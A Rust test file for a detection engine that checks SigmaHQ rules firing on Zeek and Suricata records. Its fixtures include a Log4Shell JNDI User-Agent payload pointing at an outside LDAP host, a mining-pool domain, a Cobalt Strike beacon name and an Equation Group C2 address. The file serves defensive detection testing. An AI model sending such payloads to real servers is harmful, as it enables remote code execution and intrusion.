//! Network corpora (`zeek/`, `suricata/`): a SigmaHQ `product: zeek` rule fires on a specific
//! real Zeek record, a second one on a Zeek TSV record (a self-made variant of a real one), and
//! SigmaHQ has no rule for Suricata; its product-less `category: proxy | webserver | dns |
//! firewall` rules reach Zeek and Suricata records through the built-in mapping's logsource
//! targets (renamed fields), with all SigmaHQ rules loaded.

mod common;
use common::fired;

use std::path::Path;

use vigil_core::Event;
use vigil_ingest::{DecodeOptions, decode_bytes, decode_file};

/// Every event of one corpus file (gzip included), with no decode error.
fn events(path: &Path) -> Vec<Event> {
    let mut out = Vec::new();
    let stats = decode_file(
        path,
        &DecodeOptions::default(),
        &mut |e| out.push(e),
        &mut |e| panic!("{e}"),
    )
    .unwrap();
    assert_eq!(stats.errors, 0);
    out
}

fn text<'e>(e: &'e Event, name: &str) -> Option<&'e str> {
    e.get_str(name)?.as_text().map(|t| t.as_str())
}

const BZAR_EXECUTION: &str = "b640c0b8-87f8-4daa-aef8-95a24261dd1d";
const DNS_MINING_POOLS: &str = "bf74135c-18e8-4a72-a926-0e4f47888c19";

/// Brim's zed sample (Zeek JSON, gzip): record 4 of `dce_rpc` is a remote `svcctl`
/// `CreateServiceW` call, which "MITRE BZAR Indicators for Execution" names; the
/// `OpenSCManagerW` call just before it (record 3) fires nothing.
#[test]
fn sigma_zeek_dce_rpc_rule_fires_on_real_record() {
    let Some(path) = vigil_core::corpus::corpus_path("zeek/zed-sample-data/dce_rpc.json.gz") else {
        return;
    };
    let evs = events(&path);
    assert_eq!(evs.len(), 78);
    let record = |n: u64| {
        evs.iter()
            .find(|e| e.source.record_id == Some(n))
            .unwrap_or_else(|| panic!("no record {n}"))
    };
    let e = record(4);
    assert_eq!(e.logsource.to_string(), "product: zeek, service: dce_rpc");
    assert_eq!(text(e, "endpoint"), Some("svcctl"));
    assert_eq!(text(e, "operation"), Some("CreateServiceW"));
    let ids = fired(e);
    assert!(ids.iter().any(|i| i == BZAR_EXECUTION), "fired: {ids:?}");

    let before = record(3);
    assert_eq!(text(before, "operation"), Some("OpenSCManagerW"));
    assert!(fired(before).is_empty(), "{:?}", fired(before));

    // Every CreateServiceW/StartServiceW and task-scheduler call of the capture fires it.
    let expected = evs
        .iter()
        .filter(|e| {
            matches!(
                text(e, "operation"),
                Some("CreateServiceW" | "StartServiceW" | "SchRpcRegisterTask" | "SchRpcRun")
            )
        })
        .count();
    let firing = evs
        .iter()
        .filter(|e| fired(e).iter().any(|i| i == BZAR_EXECUTION))
        .count();
    assert_eq!((firing, expected), (24, 24));
}

/// No DNS query of the Zeek corpus goes to a mining pool, so the TSV path is shown on a
/// self-made record: the headers and first record of `zeek/slips/test10-mixed-zeek-dir/dns.log`
/// (Slips, GPL-2.0) with the query changed from `clients6.google.com` to
/// `pool.supportxmr.com`. "Monero Crypto Coin Mining Pool Lookup" fires on it and not on the
/// unchanged record.
#[test]
fn sigma_zeek_dns_rule_fires_on_tsv_record() {
    if vigil_core::corpus::corpus_dir().is_none() {
        return;
    }
    let header = "#separator \\x09
#set_separator\t,
#empty_field\t(empty)
#unset_field\t-
#path\tdns
#open\t2020-10-06-17-32-46
#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\trtt\tquery\tqclass\tqclass_name\tqtype\tqtype_name\trcode\trcode_name\tAA\tTC\tRD\tRA\tZ\tanswers\tTTLs\trejected
#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tcount\tinterval\tstring\tcount\tstring\tcount\tstring\tcount\tstring\tbool\tbool\tbool\tbool\tcount\tvector[string]\tvector[interval]\tbool
";
    let record = "1601998366.786397\tCYwXsR3yfDq6hooIU2\t2001:718:2:1663:dc58:6d9:ef13:51a5\t53879\t2001:718:2:1611:0:1:0:90\t53\tudp\t3478\t0.006970\tclients6.google.com\t1\tC_INTERNET\t28\tAAAA\t0\tNOERROR\tF\tF\tT\tT\t0\tclients.l.google.com,2a00:1450:4014:80c::200e\t15.000000,105.000000\tF\n";
    let variant = record.replace("clients6.google.com", "pool.supportxmr.com");
    let log = format!("{header}{record}{variant}");
    let mut evs = Vec::new();
    let stats = decode_bytes(
        "dns.log",
        log.as_bytes(),
        &DecodeOptions::default(),
        &mut |e| evs.push(e),
        &mut |e| panic!("{e}"),
    )
    .unwrap();
    assert_eq!(stats.format.name(), "zeek-tsv");
    assert_eq!(evs.len(), 2);
    assert_eq!(evs[1].logsource.to_string(), "product: zeek, service: dns");
    assert_eq!(text(&evs[1], "query"), Some("pool.supportxmr.com"));
    assert!(!fired(&evs[0]).iter().any(|i| i == DNS_MINING_POOLS));
    let ids = fired(&evs[1]);
    assert!(ids.iter().any(|i| i == DNS_MINING_POOLS), "fired: {ids:?}");
}

/// SigmaHQ ships no rule for `product: suricata` (Suricata's own alerts are its detections);
/// EVE records get `product: suricata, service: <event_type>` for user rules.
#[test]
fn sigmahq_has_no_suricata_rules() {
    let Some(sigma) = vigil_core::corpus::corpus_path("sigma") else {
        return;
    };
    let mut files = 0;
    let mut suricata = 0;
    let mut stack = vec![sigma];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else if path.extension().is_some_and(|e| e == "yml") {
                files += 1;
                let text = std::fs::read_to_string(&path).unwrap_or_default();
                suricata += usize::from(text.to_ascii_lowercase().contains("product: suricata"));
            }
        }
    }
    assert!(files > 3000, "{files} rule files");
    assert_eq!(suricata, 0);
}

const LOG4J_FIELDS: &str = "9be472ed-893c-4ec0-94da-312d2765f654";
const HACK_TOOL_UA: &str = "c42a3073-30fb-48ae-8c99-c23ada84b103";
const RECON_UA: &str = "19aa4f58-94ca-45ff-bc34-92e533c0994a";
const COBALT_STRIKE_DNS: &str = "2975af79-28c4-4d2f-a951-9095f229df29";
const EQUATION_GROUP_C2: &str = "881834a4-6659-4773-821e-1c151789d873";

fn record(evs: &[Event], n: u64) -> &Event {
    evs.iter()
        .find(|e| e.source.record_id == Some(n))
        .unwrap_or_else(|| panic!("no record {n}"))
}

/// Zeek `http` (Slips' test9 capture, record 32): a request whose User-Agent is a Log4Shell
/// JNDI string fires the webserver rule "Log4j RCE CVE-2021-44228 in Fields"
/// (`cs-user-agent` → Zeek's `user_agent`); the request before it fires nothing of it.
#[test]
fn sigma_webserver_rule_fires_on_real_zeek_http_record() {
    let Some(path) = vigil_core::corpus::corpus_path("zeek/slips/test9-mixed-zeek-dir/http.log")
    else {
        return;
    };
    let evs = events(&path);
    let e = record(&evs, 32);
    assert_eq!(e.logsource.to_string(), "product: zeek, service: http");
    assert_eq!(
        text(e, "user_agent"),
        Some("${jndi:ldap://xyz.xyz.com:39356/a}")
    );
    let ids = fired(e);
    assert!(ids.iter().any(|i| i == LOG4J_FIELDS), "fired: {ids:?}");
    assert!(!fired(record(&evs, 31)).iter().any(|i| i == LOG4J_FIELDS));
}

/// Suricata `http` (Slips' test6 EVE): masscan's request (record 1916) fires the proxy rule
/// "Hack Tool User Agent" (`c-useragent` → `http.http_user_agent`), zgrab's (record 1845) the
/// webserver rule "Suspicious User-Agents Related To Recon Tools"; the EVE `alert` records
/// with the same HTTP metadata are not `http` events and fire neither.
#[test]
fn sigma_proxy_and_webserver_rules_fire_on_real_suricata_http_records() {
    let Some(path) =
        vigil_core::corpus::corpus_path("suricata/slips/test6-malicious.suricata.json")
    else {
        return;
    };
    let evs = events(&path);
    let masscan = record(&evs, 1916);
    assert_eq!(
        masscan.logsource.to_string(),
        "product: suricata, service: http"
    );
    assert!(text(masscan, "http.http_user_agent").is_some_and(|u| u.starts_with("masscan/")));
    let ids = fired(masscan);
    assert!(ids.iter().any(|i| i == HACK_TOOL_UA), "fired: {ids:?}");

    let zgrab = record(&evs, 1845);
    assert_eq!(
        text(zgrab, "http.http_user_agent"),
        Some("Mozilla/5.0 zgrab/0.x")
    );
    let ids = fired(zgrab);
    assert!(ids.iter().any(|i| i == RECON_UA), "fired: {ids:?}");

    for alert in [record(&evs, 1915), record(&evs, 1844)] {
        assert_eq!(alert.logsource.service.as_deref(), Some("alert"));
        let ids = fired(alert);
        assert!(
            !ids.iter().any(|i| i == HACK_TOOL_UA || i == RECON_UA),
            "{ids:?}"
        );
    }
}

/// Decodes self-made NDJSON lines as `name` (no decode error).
fn decode_lines(name: &str, lines: &[String]) -> Vec<Event> {
    let mut evs = Vec::new();
    decode_bytes(
        name,
        lines.join("\n").as_bytes(),
        &DecodeOptions::default(),
        &mut |e| evs.push(e),
        &mut |e| panic!("{e}"),
    )
    .unwrap();
    evs
}

/// No DNS or connection record of the corpora carries a name or address a `category: dns` or
/// `firewall` rule looks for, so real records are varied: Zeek's dns record 5 of Slips' test9
/// and Suricata's dns record 17 of test6 with the query renamed to a Cobalt Strike DNS beacon
/// name fire "Cobalt Strike DNS Beaconing" (`query` is Zeek's own name; Suricata's
/// `dns.rrname`), and Zeek's conn record 5 of test9 with the responder set to an Equation Group
/// C2 address fires "Equation Group C2 Communication" (`dst_ip` → `id.resp_h`). The originals
/// fire neither.
#[test]
fn sigma_dns_and_firewall_rules_fire_on_zeek_and_suricata_variants() {
    if vigil_core::corpus::corpus_dir().is_none() {
        return;
    }
    let zeek_dns = r#"{"ts":30.037934,"uid":"CR1Opz1Bc5HpC8tASc","id.orig_h":"10.0.2.15","id.orig_p":59465,"id.resp_h":"147.32.80.9","id.resp_p":53,"proto":"udp","trans_id":7449,"rtt":0.004871999999998877,"query":"www.msftncsi.com","qclass":1,"qclass_name":"C_INTERNET","qtype":1,"qtype_name":"A","rcode":0,"rcode_name":"NOERROR","AA":false,"TC":false,"RD":true,"RA":true,"Z":0,"answers":["www.msftncsi.com.edgesuite.net","a1961.g2.akamai.net","195.113.232.73","195.113.232.75"],"TTLs":[386.0,300.0,20.0,20.0],"rejected":false}"#;
    let beacon = "aaa.stage.123456.example.com";
    let evs = decode_lines(
        "dns.log",
        &[
            zeek_dns.to_string(),
            zeek_dns.replace("www.msftncsi.com\",", &format!("{beacon}\",")),
        ],
    );
    assert_eq!(evs[1].logsource.to_string(), "product: zeek, service: dns");
    assert_eq!(text(&evs[1], "query"), Some(beacon));
    assert!(!fired(&evs[0]).iter().any(|i| i == COBALT_STRIKE_DNS));
    let ids = fired(&evs[1]);
    assert!(ids.iter().any(|i| i == COBALT_STRIKE_DNS), "fired: {ids:?}");

    let suricata_dns = r#"{"timestamp":"2021-06-06T16:26:27.431769+0200","flow_id":1567838537225881,"pcap_cnt":3881,"event_type":"dns","src_ip":"192.168.1.129","src_port":35790,"dest_ip":"192.168.1.1","dest_port":53,"proto":"UDP","dns":{"type":"query","id":2,"rrname":"www.google.com","rrtype":"A","tx_id":0},"host":"stratosphere.org"}"#;
    let evs = decode_lines(
        "eve.json",
        &[
            suricata_dns.to_string(),
            suricata_dns.replace("www.google.com", beacon),
        ],
    );
    assert_eq!(
        evs[1].logsource.to_string(),
        "product: suricata, service: dns"
    );
    assert!(!fired(&evs[0]).iter().any(|i| i == COBALT_STRIKE_DNS));
    let ids = fired(&evs[1]);
    assert!(ids.iter().any(|i| i == COBALT_STRIKE_DNS), "fired: {ids:?}");

    let zeek_conn = r#"{"ts":26.386884,"uid":"Clie9n1LVZgk5YlTh5","id.orig_h":"192.168.1.240","id.orig_p":63386,"id.resp_h":"173.194.76.189","id.resp_p":443,"proto":"udp","duration":12.821130990982056,"orig_bytes":264,"resp_bytes":181,"conn_state":"SF","local_orig":true,"local_resp":false,"missed_bytes":0,"history":"Dd","orig_pkts":8,"orig_ip_bytes":488,"resp_pkts":7,"resp_ip_bytes":377,"orig_l2_addr":"08:00:07:f8:3d:02","resp_l2_addr":"d8:58:d7:00:67:11"}"#;
    let evs = decode_lines(
        "conn.log",
        &[
            zeek_conn.to_string(),
            zeek_conn.replace("173.194.76.189", "69.42.98.86"),
        ],
    );
    assert_eq!(evs[1].logsource.to_string(), "product: zeek, service: conn");
    assert!(!fired(&evs[0]).iter().any(|i| i == EQUATION_GROUP_C2));
    let ids = fired(&evs[1]);
    assert!(ids.iter().any(|i| i == EQUATION_GROUP_C2), "fired: {ids:?}");
}
